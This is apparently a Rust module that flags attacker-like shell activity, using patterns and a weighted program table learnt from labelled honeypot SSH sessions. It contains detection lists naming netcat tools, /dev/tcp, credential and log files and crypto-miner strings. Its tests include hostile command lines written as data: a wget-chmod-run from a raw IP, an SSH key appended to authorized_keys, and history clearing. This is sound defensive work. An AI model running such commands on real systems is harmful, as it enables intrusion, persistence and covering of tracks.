//! Known attacker behaviour, learnt from 359 real attacker SSH sessions (the LogPrecis
//! corpus of the CZ.NIC honeypots, each command labelled with its MITRE ATT&CK tactic):
//! the patterns they follow (download and execute, drop and execute, decode and execute,
//! persistence, defence evasion, discovery bursts, impact) and a table of the programs
//! typical of them, weighted by how much more often attackers use them than the benign
//! users of the SEA data. `data/attack_model.py` regenerates the table
//! (`data/attack_model.json`) from the corpus; the patterns and their word lists are
//! documented there with their measured hit and false-alarm rates.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::sync::LazyLock;

use serde::Deserialize;

use crate::score::Finding;
use crate::words::Program;

/// The table learnt from the corpus, as generated.
const MODEL: &str = include_str!("../data/attack_model.json");

/// One program of the table.
#[derive(Debug, Deserialize)]
pub struct Entry {
    /// Its dominant ATT&CK tactic in the corpus.
    pub tactic: String,
    /// Log-odds of attacker use against benign use.
    pub w: f64,
}

/// The table.
#[derive(Debug, Deserialize)]
pub struct Table {
    /// Programs.
    pub commands: BTreeMap<String, Entry>,
    /// Sum of weights in a window that counts as attacker-like.
    pub table_score_threshold: f64,
    /// Window, in programs (pipeline filters not counted).
    pub table_score_window: usize,
}

/// The embedded table (empty if it could not be read, which a test rules out).
pub static TABLE: LazyLock<Table> = LazyLock::new(|| {
    serde_json::from_str(MODEL).unwrap_or(Table {
        commands: BTreeMap::new(),
        table_score_threshold: f64::INFINITY,
        table_score_window: 5,
    })
});

const DOWNLOAD: [&str; 6] = ["wget", "curl", "tftp", "ftpget", "lwp-download", "fetch"];
const EXEC: [&str; 5] = ["sh", "bash", "perl", "python", "python3"];
const DISCOVERY: [&str; 21] = [
    "uname",
    "whoami",
    "id",
    "w",
    "lscpu",
    "free",
    "nproc",
    "top",
    "uptime",
    "ifconfig",
    "lspci",
    "dmidecode",
    "nvidia-smi",
    "getconf",
    "df",
    "netstat",
    "ss",
    "ps",
    "who",
    "last",
    "which",
];
const PERSISTENCE: [&str; 8] = [
    "crontab",
    "chpasswd",
    "passwd",
    "useradd",
    "adduser",
    "usermod",
    "hive-passwd",
    "ssh-keygen",
];
const EVASION: [&str; 7] = [
    "history",
    "chattr",
    "unset",
    "setenforce",
    "iptables",
    "ufw",
    "shred",
];
const IMPACT: [&str; 5] = ["pkill", "killall", "reboot", "cfgmtd", "xmrig"];
const NETCAT: [&str; 4] = ["nc", "ncat", "netcat", "socat"];
/// Pipeline filters: they do not advance the windows.
const FILTERS: [&str; 18] = [
    "grep", "egrep", "fgrep", "awk", "nawk", "gawk", "sed", "head", "tail", "wc", "sort", "uniq",
    "cut", "tr", "more", "less", "cat", "xargs",
];
/// Download, then execute within this many programs.
const DOWNLOAD_EXEC: usize = 5;
/// Make executable (or decode), then run within this many programs.
const DROP_EXEC: usize = 3;
/// Distinct discovery signals within the last this many programs...
const DISCOVERY_SPAN: usize = 5;
/// ...that make a burst.
const DISCOVERY_BURST: usize = 3;

/// What one program shows.
#[derive(Debug, Default)]
struct Signals {
    download: bool,
    raw_ip_download: bool,
    make_executable: bool,
    exec: bool,
    decode: bool,
    exec_from_tmp: bool,
    netcat: bool,
    hex_echo: bool,
    discovery: Option<String>,
    persistence: bool,
    evasion: bool,
    impact: bool,
    filter: bool,
}

fn is_raw_ip_url(arg: &str) -> bool {
    let rest = arg.split_once("://").map_or(arg, |(_, r)| r);
    let host = rest.split(['/', ':', '@']).next().unwrap_or("");
    host.split('.').count() == 4 && host.split('.').all(|p| p.parse::<u8>().is_ok())
}

fn is_octal_exec(mode: &str) -> bool {
    let digits = mode.trim_start_matches('0');
    let owner = if digits.len() == 4 {
        digits.get(1..2)
    } else if digits.len() == 3 {
        digits.get(..1)
    } else {
        None
    };
    mode.chars().all(|c| ('0'..='7').contains(&c)) && owner.is_some_and(|o| o == "7" || o == "5")
}

fn in_tmp(path: &str) -> bool {
    ["/tmp/", "/var/tmp/", "/dev/shm/"]
        .iter()
        .any(|d| path.starts_with(d))
}

fn signals(p: &Program) -> Signals {
    let name = p.name.as_str();
    let args = p.args.join(" ");
    let has = |needle: &str| args.contains(needle);
    let mut s = Signals {
        filter: FILTERS.contains(&name),
        netcat: NETCAT.contains(&name),
        ..Signals::default()
    };
    s.download = DOWNLOAD.contains(&name)
        || (name == "scp" && p.args.iter().any(|a| a == "-t"))
        || has("/dev/tcp/");
    s.raw_ip_download = s.download && p.args.iter().any(|a| is_raw_ip_url(a));
    s.make_executable = name == "chmod"
        && p.args
            .iter()
            .any(|a| (a.contains("+x") && !a.starts_with("-x")) || is_octal_exec(a));
    let local = p.path.starts_with("./") || in_tmp(&p.path);
    s.exec = EXEC.contains(&name) || local;
    s.decode = (name == "base64" && p.args.iter().any(|a| a == "-d" || a == "--decode"))
        || (name == "xxd" && p.args.iter().any(|a| a == "-r"))
        || (name == "openssl" && has("enc") && p.args.iter().any(|a| a == "-d"));
    s.exec_from_tmp = in_tmp(&p.path) || p.path.contains("/.");
    s.hex_echo = (name == "echo" || name == "printf") && args.matches("\\x").count() >= 8;
    s.discovery = if DISCOVERY.contains(&name) {
        Some(name.to_owned())
    } else {
        [
            "/proc/cpuinfo",
            "/proc/meminfo",
            "/proc/version",
            "/etc/issue",
            "/etc/os-release",
            "/etc/passwd",
        ]
        .iter()
        .find(|f| has(f))
        .map(|f| (*f).to_owned())
        .or_else(|| {
            (name == "ip" && p.args.first().is_some_and(|a| a == "a" || a == "addr"))
                .then(|| "ip addr".to_owned())
        })
    };
    let crontab_list = name == "crontab" && p.args.iter().any(|a| a == "-l");
    if crontab_list {
        s.discovery = Some("crontab -l".into());
    }
    s.persistence = !crontab_list
        && (PERSISTENCE.contains(&name)
            || [
                "authorized_keys",
                ".ssh",
                "rc.local",
                "/etc/init.d",
                "/etc/cron",
                ".bashrc",
                ".profile",
            ]
            .iter()
            .any(|n| has(n))
            || (name == "systemctl" && p.args.first().is_some_and(|a| a == "enable")));
    s.evasion = EVASION.contains(&name)
        || [
            "HISTFILE",
            "HISTSIZE=0",
            ".bash_history",
            "/var/log/wtmp",
            "/var/log/btmp",
            "/var/log/lastlog",
            "/var/log/secure",
            "/var/log/auth",
        ]
        .iter()
        .any(|n| has(n) || p.path.contains(n))
        || (name == "rm" && has("/var/log"));
    s.impact = IMPACT.contains(&name)
        || (name == "kill" && p.args.iter().any(|a| a == "-9"))
        || has("stratum+tcp")
        || has("xmrig")
        || (name == "service" && p.args.get(1).is_some_and(|a| a == "stop"));
    s
}

/// Programs remembered per session for the patterns.
const RECENT: usize = 16;

/// A session's recent programs with what each showed, read once when it ran.
#[derive(Debug, Default)]
pub struct Recent(VecDeque<(String, Signals)>);

/// Scores `program` given the session's recent programs, then remembers it.
pub fn score(recent: &mut Recent, program: &Program, out: &mut Vec<Finding>) {
    let now = signals(program);
    find(&recent.0, &now, program, out);
    recent.0.push_back((program.name.clone(), now));
    if recent.0.len() > RECENT {
        recent.0.pop_front();
    }
}

fn find(
    recent: &VecDeque<(String, Signals)>,
    now: &Signals,
    program: &Program,
    out: &mut Vec<Finding>,
) {
    let before: Vec<&Signals> = recent.iter().map(|(_, s)| s).collect();
    // How many programs back the latest with a signal is (1 = the previous one).
    let back =
        |test: fn(&Signals) -> bool| before.iter().rev().position(|s| test(s)).map(|i| i + 1);
    let name = &program.name;
    if (now.make_executable || now.exec)
        && (now.download || back(|s| s.download).is_some_and(|d| d < DOWNLOAD_EXEC))
    {
        out.push(Finding::new("attack", 85, format!("download then execute (`{name}` after a download), as in attacker sessions (Execution)")));
    }
    if now.exec
        && !now.make_executable
        && back(|s| s.make_executable).is_some_and(|d| d < DROP_EXEC)
    {
        out.push(Finding::new(
            "attack",
            80,
            format!(
                "a file made executable, then run (`{}`), as in attacker sessions (Execution)",
                program.path
            ),
        ));
    }
    if now.exec && back(|s| s.decode).is_some_and(|d| d < DROP_EXEC) {
        out.push(Finding::new(
            "attack",
            80,
            "decoded data run as a program, as in attacker sessions (Execution)",
        ));
    }
    if now.raw_ip_download {
        out.push(Finding::new(
            "attack",
            60,
            format!("`{name}` downloads from a raw IP address, as in attacker sessions"),
        ));
    }
    if now.hex_echo {
        out.push(Finding::new(
            "attack",
            70,
            "binary written with hex escapes (`echo -e \\x..`), as in attacker droppers",
        ));
    }
    if now.exec_from_tmp {
        out.push(Finding::new(
            "attack",
            60,
            format!(
                "runs `{}` from a temporary or hidden directory",
                program.path
            ),
        ));
    }
    if now.netcat {
        out.push(Finding::new(
            "attack",
            50,
            format!("`{name}` (raw network connections), as in attacker sessions"),
        ));
    }
    if now.persistence {
        out.push(Finding::new(
            "attack",
            75,
            format!("`{name}` changes accounts, keys or start-up jobs (Persistence)"),
        ));
    }
    if now.evasion {
        out.push(Finding::new(
            "attack",
            75,
            format!("`{name}` hides activity or weakens defences (Defense Evasion)"),
        ));
    }
    if now.impact {
        out.push(Finding::new(
            "attack",
            60,
            format!("`{name}` stops processes or the system (Impact)"),
        ));
    }
    // Discovery: distinct signals in the last few programs, filters not counted.
    let mut seen: BTreeSet<String> = now.discovery.iter().cloned().collect();
    let mut counted = usize::from(!now.filter);
    for s in before.iter().rev() {
        if counted >= DISCOVERY_SPAN {
            break;
        }
        if let Some(d) = &s.discovery {
            seen.insert(d.clone());
        }
        counted += usize::from(!s.filter);
    }
    if now.discovery.is_some() && seen.len() >= DISCOVERY_BURST {
        let list: Vec<&str> = seen.iter().map(String::as_str).collect();
        out.push(Finding::new(
            "attack",
            55,
            format!(
                "discovery burst ({}), as in attacker sessions (Discovery)",
                list.join(", ")
            ),
        ));
    }
    // The learnt table: distinct typical programs in the window.
    let table = &*TABLE;
    let mut names: BTreeSet<&str> = BTreeSet::from([name.as_str()]);
    let mut counted = usize::from(!now.filter);
    for (name, signals) in recent.iter().rev() {
        if counted >= table.table_score_window {
            break;
        }
        names.insert(name.as_str());
        counted += usize::from(!signals.filter);
    }
    let weight: f64 = names
        .iter()
        .filter_map(|n| table.commands.get(*n))
        .map(|e| e.w.max(0.0))
        .sum();
    if weight >= table.table_score_threshold {
        let mut tactics: Vec<&str> = names
            .iter()
            .filter_map(|n| table.commands.get(*n))
            .filter(|e| e.w > 0.0)
            .map(|e| e.tactic.as_str())
            .collect();
        tactics.sort_unstable();
        tactics.dedup();
        // A soft score: the table also rates programs that 1998's benign users never had
        // (systemctl), so it only adds weight to the patterns above.
        out.push(Finding::new(
            "attack",
            20,
            format!(
                "a run of programs typical of attacker sessions ({})",
                tactics.join(", ")
            ),
        ));
    }
}

/// Places whose change persists access.
const PERSISTENT_PLACES: [&str; 7] = [
    "authorized_keys",
    ".ssh/",
    "rc.local",
    "/etc/init.d",
    "/etc/cron",
    ".bashrc",
    ".profile",
];
/// Traces attackers erase.
const TRACES: [&str; 8] = [
    "HISTFILE",
    "HISTSIZE=0",
    ".bash_history",
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
    "/var/log/secure",
    "/var/log/auth",
];

/// Scores a whole command line for what its programs' arguments do not show: redirections
/// into persistent places or over traces (`echo key >> ~/.ssh/authorized_keys`).
pub fn score_line(line: &str, out: &mut Vec<Finding>) {
    if let Some(place) = PERSISTENT_PLACES.iter().find(|p| line.contains(*p)) {
        out.push(Finding::new(
            "attack",
            75,
            format!("writes to `{place}` (Persistence)"),
        ));
    }
    if let Some(trace) = TRACES.iter().find(|t| line.contains(*t)) {
        out.push(Finding::new(
            "attack",
            75,
            format!("touches `{trace}` (Defense Evasion)"),
        ));
    }
}

/// Whether a path is where attackers drop tools (`/tmp`, `/var/tmp`, `/dev/shm`).
pub fn is_dropped_executable(path: &str) -> bool {
    in_tmp(path) || path.starts_with("/run/user/")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::words::programs;

    fn run(lines: &[&str]) -> Vec<Finding> {
        let mut recent = Recent::default();
        let mut out = Vec::new();
        for line in lines {
            score_line(line, &mut out);
            for p in programs(line) {
                score(&mut recent, &p, &mut out);
            }
        }
        out
    }

    #[test]
    fn the_table_is_embedded() {
        assert_eq!(TABLE.commands.len(), 80);
        assert!(TABLE.table_score_threshold.is_finite());
        assert_eq!(TABLE.commands["wget"].tactic, "Execution");
    }

    #[test]
    fn attacker_patterns_are_found() {
        let out = run(&["cd /tmp && wget http://203.0.113.9/x && chmod +x x && ./x"]);
        let texts: Vec<&str> = out.iter().map(|f| f.text.as_str()).collect();
        assert!(
            texts.iter().any(|t| t.starts_with("download then execute")),
            "{texts:?}"
        );
        assert!(
            texts.iter().any(|t| t.contains("raw IP address")),
            "{texts:?}"
        );
        assert!(
            texts
                .iter()
                .any(|t| t.starts_with("a file made executable, then run (`./x`)")),
            "{texts:?}"
        );
        let out = run(&["uname -a", "cat /proc/cpuinfo | grep name", "free -m", "w"]);
        assert!(
            out.iter().any(|f| f.text.starts_with("discovery burst")),
            "{out:?}"
        );
        let out = run(&["echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"]);
        assert!(
            out.iter().any(|f| f.text.contains("Persistence")),
            "{out:?}"
        );
        let out = run(&["history -c"]);
        assert!(
            out.iter().any(|f| f.text.contains("Defense Evasion")),
            "{out:?}"
        );
    }

    #[test]
    fn everyday_work_is_quiet() {
        let out = run(&[
            "ls -la /opt/plant",
            "systemctl status historian",
            "tail -n 100 /var/log/historian.log | grep ERROR",
            "df -h",
            "crontab -l",
            "vi /etc/historian.conf",
            "systemctl restart historian",
        ]);
        assert!(out.iter().all(|f| f.score <= 20), "{out:?}");
    }
}
